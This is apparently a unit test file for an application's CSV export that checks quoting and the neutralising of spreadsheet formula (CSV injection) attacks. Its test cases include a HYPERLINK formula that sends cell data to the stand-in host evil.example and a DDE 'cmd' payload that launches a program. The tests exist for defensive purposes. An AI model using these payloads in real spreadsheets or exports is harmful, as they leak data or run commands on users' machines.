/** The one CSV writer: quoting, and the formula attack (CSV injection) neutralised in every cell a person typed. */
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/shared/csv.js';

describe('CSV', () => {
  it('quotes commas, quotes and line breaks', () => {
    expect(csvCell('RC-AB2C-3D4E-5F6G')).toBe('RC-AB2C-3D4E-5F6G');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(toCsv([['code', 'amount'], ['RC-1', 2000]])).toBe('code,amount\r\nRC-1,2000\r\n');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['=1+1', "'=1+1"],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('a text cell %j that a spreadsheet would run is written as text', (attack, written) => {
    expect(csvCell(attack)).toBe(written);
    // Whatever the spreadsheet sees first is the apostrophe, never a formula starter.
    expect(csvCell(attack).replace(/^"/, '')[0]).toBe("'");
  });

  it('leaves numbers as numbers (a negative difference stays -5500) and harmless text alone', () => {
    expect(csvCell(-5500)).toBe('-5500');
    expect(csvCell(0)).toBe('0');
    expect(csvCell('desk 1')).toBe('desk 1');
    expect(csvCell('2026-11-27T04:00:00.000Z')).toBe('2026-11-27T04:00:00.000Z');
    expect(csvCell(Number.NaN)).toBe('');
  });
});
